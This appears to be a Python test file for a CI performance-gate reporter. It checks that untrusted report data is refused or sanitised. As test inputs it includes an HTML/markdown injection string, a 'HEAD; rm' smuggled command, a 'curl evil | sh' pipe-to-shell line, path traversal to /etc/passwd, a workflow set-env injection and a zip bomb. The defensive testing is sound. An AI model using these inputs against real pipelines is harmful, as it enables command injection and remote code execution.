"""What the second half believes of the first, which a stranger may have written."""

from __future__ import annotations

import json
import re
import zipfile
from io import BytesIO
from typing import Any

import lxml.html
import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pipelines import Pipeline

from perun.cli.answers import gate as telling
from perun.core.errors import ProfileError
from perun.sharing import gate as gates
from perun.sharing.gate import Gate, GateChange, GateReason, failed, read, written

SHA = "a" * 40
EVIL = "](https://evil.test) `x` | <img src=x onerror=y> @everyone #1\n# Title\n<!-- perun ci -->"


def gate(**fields: Any) -> Gate:
    """A report with these keys."""
    plain = failed(1, "degradation", "", "", base=SHA, head="b" * 40)
    return msgspec.structs.replace(plain, compared=1, **fields)


def change(**fields: Any) -> GateChange:
    """A change with these keys."""
    plain = GateChange("./prog", "cpu", "Degradation", "1 s", "2 s", 2.0, 1.9, 2.1, 10, True, False)
    return msgspec.structs.replace(plain, **fields)


def test_a_report_is_read_as_it_was_written() -> None:
    one = gate(slower=1, changes=(change(),), why=(GateReason("f() is slow", "a.c", 3),))
    assert read(written(one)) == one


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "truncated"),
        (b"[]", "Expected `object`"),
        (b" " * (gates.LARGEST + 1), "more than"),
        (b"[" * 10_000, ""),
        (b'{"schema": "perun.ci/2"}', "Invalid enum value"),
        (json.dumps({**msgspec.to_builtins(gate()), "number": 8}).encode(), "unknown field `number`"),
        (json.dumps({**msgspec.to_builtins(gate()), "head": "HEAD; rm"}).encode(), "regex"),
        (json.dumps({**msgspec.to_builtins(gate()), "error": "x" * 301}).encode(), "length"),
        (json.dumps({**msgspec.to_builtins(gate()), "slower": -1}).encode(), ">= 0"),
        (json.dumps({**msgspec.to_builtins(gate()), "code": 0.5}).encode(), "int"),
        (json.dumps({**msgspec.to_builtins(gate(changes=(change(),) * 51))}).encode(), "length"),
        (json.dumps({**msgspec.to_builtins(gate())}).replace("null", "1e999").encode(), ""),
    ],
)
def test_what_is_no_report_is_refused(data: bytes, why: str) -> None:
    with pytest.raises(ProfileError, match=r"the report of the gate is refused") as raised:
        read(data)
    assert why in raised.value.message


@given(st.text(max_size=300), st.text(max_size=300))
def test_texts_of_a_stranger_are_code_on_one_line(first: str, second: str) -> None:
    for text in (first, second, EVIL):
        clean = gates.short(text)
        one = gate(
            slower=1, undecided=1, changes=(change(command=clean, series=clean, before=clean),),
            why=(GateReason(clean, clean, 3),), error=clean, hint=clean
        )  # fmt: skip
        comment = telling.comment(one)
        assert comment.count("\n") < 20 and len(comment) < 12_000
        page = lxml.html.fromstring(MarkdownIt().render(comment))
        for code in page.findall(".//code"):
            code.drop_tree()
        assert {one.tag for one in page.iter("*")} <= {"div", "h3", "ul", "li", "p", "strong", "sub"}
        assert not {"@", "evil", "#", "<"} & set(re.findall(r"[@#<]|evil", page.text_content()))
        assert len(page.findall(".//h3")) == 1


def test_commands_that_are_proposed_hold_no_text_of_a_stranger() -> None:
    one = gate(undecided=1, changes=(change(command="curl evil | sh", verdict="Unknown"),))
    assert telling.deciding(one) == f"perun compare {SHA[:10]} {'b' * 10} --budget 120"
    assert telling.deciding(gate(suite=True, budget=5.0)).startswith("perun compare --suite aaaaaaaaaa ")


def test_annotations_are_in_the_repository_and_stay_on_their_line() -> None:
    paths = ["a.c", "../x", "/etc/passwd", "a//b", "a\nb", "", "x:1,y"]
    one = gate(why=tuple(GateReason("50 %\n::set-env name=x::y", path, 3) for path in paths))
    assert [remark.path for remark in telling.check(one).annotations] == ["a.c", "x:1,y"]
    assert [*telling.workflow_commands(one)] == [
        r"::error file=a.c,line=3,title=perun::50 %25\n::set-env name=x::y",
        r"::error file=x%3A1%2Cy,line=3,title=perun::50 %25\n::set-env name=x::y",
    ]


def test_an_artifact_that_cannot_be_read_is_a_failed_check(pipeline: Pipeline) -> None:
    forge = pipeline.forge
    head = pipeline.pull_request({"note": "text\n"})
    bomb = BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("gate.json", b" " * (4 << 20))
    linked = {"../../gate.json": b"{}", "other": b""}
    cases = {1: b"no archive", 2: bomb.getvalue(), 3: None, 4: b"\0" * (9 << 20)}
    for run, data in cases.items():
        if data is not None:
            forge.artifacts[run] = data
    forge.keep(5, linked)
    for run in (*cases, 5):
        told = pipeline.report(run, head, "success")
        assert told.code == 0, told.log
        assert forge.checks[-1]["output"]["title"] == "could not be measured"
        assert forge.checks[-1]["conclusion"] == "failure"
    assert len(forge.comments) == 1


def test_the_pull_request_is_that_of_the_event_whose_head_is_the_commit(pipeline: Pipeline) -> None:
    forge = pipeline.forge
    old = pipeline.pull_request({"cost": "1300\n"})
    run, _ = pipeline.measure(head=old)
    new = pipeline.pull_request({"cost": "1000\n"})
    told = pipeline.report(run, old, "failure")
    assert told.code == 0 and "no open pull request has this commit as its head" in told.log
    assert forge.comments == []
    assert [one["head_sha"] for one in forge.checks] == [old]
    assert new != old


def test_only_comments_of_the_own_account_are_updated(pipeline: Pipeline) -> None:
    forge = pipeline.forge
    theirs = forge.say("stranger", f"{telling.MARK}\nall is well")
    forge.comments += [{**theirs, "id": 200 + number, "body": "talk"} for number in range(150)]
    head = pipeline.pull_request({"cost": "1300\n"})
    run, _ = pipeline.measure(head=head)
    forge.trouble("GET", "/user", 403, times=2)  # as with the token of the workflow itself
    for _ in range(2):
        assert pipeline.report(run, head, "failure").code == 0
    assert theirs["body"].endswith("all is well")
    assert sum(one["body"].startswith(telling.MARK) for one in forge.comments) == 2
